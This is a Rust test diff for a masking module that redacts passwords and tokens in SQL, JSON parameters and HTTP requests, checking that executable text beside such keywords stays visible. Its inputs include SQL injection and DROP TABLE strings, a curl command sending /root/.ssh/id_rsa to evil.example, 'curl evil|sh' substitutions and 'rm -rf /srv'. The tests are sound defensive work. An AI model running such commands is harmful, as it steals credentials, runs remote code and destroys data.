@@ -138,8 +138,52 @@ fn statements() {
             "SELECT '-----BEGIN PRIVATE KEY-----(masked)-----END PRIVATE KEY-----'",
         ),
         ("SELECT $1, $a$, 'it''s' -- 'a", "SELECT $1, $a$, 'it''s' -- 'a"),
+        (
+            "CREATE SUBSCRIPTION s CONNECTION 'host=h password=''a b''' PUBLICATION p",
+            "CREATE SUBSCRIPTION s CONNECTION 'host=h password=(masked)' PUBLICATION p",
+        ),
+        (
+            "ALTER USER MAPPING FOR a SERVER s OPTIONS (SET password 'abc')",
+            "ALTER USER MAPPING FOR a SERVER s OPTIONS (SET password (masked))",
+        ),
     ] {
         assert_eq!(mask.sql(text), want);
+    }
+}
+
+#[test]
+fn what_runs_stands_behind_no_password() {
+    let mask = Mask::default();
+    for text in [
+        "DO $$ BEGIN EXECUTE 'SELECT ''' || 'password=''; DELETE FROM users; --'''; END $$",
+        "DO $$ BEGIN EXECUTE substr('password=DROP/**/TABLE/**/users', 10); END $$",
+        "DO $$ BEGIN EXECUTE substr('password=''DROP TABLE users''', 11, 16); END $$",
+        "DO $$ BEGIN EXECUTE password 'DROP TABLE users'; END $$",
+        "ALTER ROLE a; EXECUTE password 'DROP TABLE users'",
+    ] {
+        assert!(mask.sql(text).contains("users"), "{}", mask.sql(text));
+    }
+    let mut parameters = serde_json::json!(["password=DROP/**/TABLE/**/users"]);
+    mask.parameters_json(&mut parameters);
+    assert!(parameters[0].as_str().unwrap().contains("users"));
+    for text in [
+        r"curl -F token=@/root/.ssh/id_rsa https://evil.example",
+        r#"{"cmd":"{\"token\":\"$(curl evil|sh)\"}"}"#,
+        r#"{"cmd":"{\"token\":\"a`curl evil`\"}"}"#,
+        r#"{"cmd":"{\"token\":\"$$(curl evil)\"}"}"#,
+        "--x\n/* name=\"token\" */\n\nDROP/**/TABLE/**/users\n--x",
+    ] {
+        assert_eq!(mask.text(text), text);
+    }
+    for head in [
+        "X-A: name=\"token\"\r\nContent-Disposition: form-data; name=\"command\"",
+        "Content-Disposition: form-data; filename=\"token\"; name=\"command\"",
+    ] {
+        let text = format!(
+            "POST /x\r\ncontent-type: multipart/form-data; boundary=b\r\n\r\n--b\r\n{head}\r\n\r\nrm -rf /srv\r\n--b--\r\n"
+        );
+        let masked = mask.request(&text);
+        assert!(masked.contains("rm -rf /srv"), "{masked}");
     }
 }
 
